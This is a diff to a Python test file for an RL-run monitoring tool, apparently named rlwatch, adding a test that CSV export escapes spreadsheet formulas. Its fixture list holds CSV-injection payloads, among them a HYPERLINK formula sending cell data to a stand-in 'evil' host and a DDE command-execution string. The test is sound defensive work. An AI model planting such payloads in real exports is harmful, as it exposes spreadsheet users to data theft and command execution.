@@ -19,7 +19,7 @@ from pyarrow import parquet
 import rlwatch
 from rlwatch.errors import ConfigError, RunNotFoundError
 from rlwatch.export import COLUMNS, TABLES
-from rlwatch.records import CULPRITS, LOCALISED, RESPONSES, Event, RunInfo, SpikeBatch, StepRecord
+from rlwatch.records import CULPRITS, LOCALISED, RESPONSES, CompletionBatch, Event, RunInfo, SpikeBatch, StepRecord
 
 DOCS = Path(__file__).parents[2] / "docs" / "localisation.md"
 
@@ -90,7 +90,7 @@ def test_csv_keeps_missing_nan_and_infinity_apart(store: Path, tmp_path: Path, i
     ]  # fmt: skip
     assert [rows[0][name] for name in ("advantage", "own_norm", "logp", "rank")] == ["-Infinity", "32.5", "", "1"]
     assert [rows[1][name] for name in ("advantage", "own_norm", "layers")] == ["NaN", "", ""]
-    assert rows[1]["why"] == '=1+1, a "quote"\nand a line'
+    assert rows[1]["why"] == '\'=1+1, a "quote"\nand a line', "no formula for a spreadsheet"
     assert (rows[4]["why_not"], rows[4]["norm"], rows[4]["token_id"]) == ("the budget is used up", "NaN", "")
     assert rows[2]["step_cause"] == "token ratio"
 
@@ -277,3 +277,28 @@ def test_show_opens_the_response_with_culprits_in_place(store: Path, invoke: Inv
     assert "]] 7 ... end" in text
     assert "\x1b[31m" not in text
     assert document["responses"][0]["culprits"] == [7]
+
+
+FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "  =1", "\uff1d1+1")
+NO_FORMULAS = ("reward", "-1.5e-3", "+7", "a=b", "", "'=1")
+
+
+def test_a_spreadsheet_finds_no_formula_in_names_headers_and_texts(tmp_path: Path, invoke: Invoke) -> None:
+    """In CSV alone: the other formats are not opened by a double click, and keep every letter."""
+    writer = rlwatch.open_store(tmp_path / "runs").open_run(RunInfo("r", name="=1+2", created_at=NOW))
+    texts = [*FORMULAS, *NO_FORMULAS]
+    batch = CompletionBatch(1, {"completion": texts, "reward": np.full(len(texts), -1.0)})
+    writer.write([StepRecord(1, {"=cmd()": 1.0, "-kl": -2.0}, seq=1), batch])
+    writer.close()
+    for kind, ending in (("history", "csv"), ("completions", "csv"), ("completions", "jsonl")):
+        assert invoke("export", kind, "r", tmp_path / f"{kind}.{ending}", "--store", tmp_path / "runs").exit_code == 0
+    with (tmp_path / "history.csv").open(newline="", encoding="utf-8") as file:
+        head, row = csv.reader(file)
+    with (tmp_path / "completions.csv").open(newline="", encoding="utf-8") as file:
+        cells = [one["completion"] for one in csv.DictReader(file)]
+    whole = [json.loads(line)["completion"] for line in (tmp_path / "completions.jsonl").read_text().splitlines()]
+
+    assert head[2:] == ["'-kl", "'=cmd()"]
+    assert row[2:] == ["-2.0", "1.0"], "a number is a number"
+    assert sorted(cells) == sorted([*(f"'{text}" for text in FORMULAS), *NO_FORMULAS])
+    assert sorted(whole) == sorted(texts)
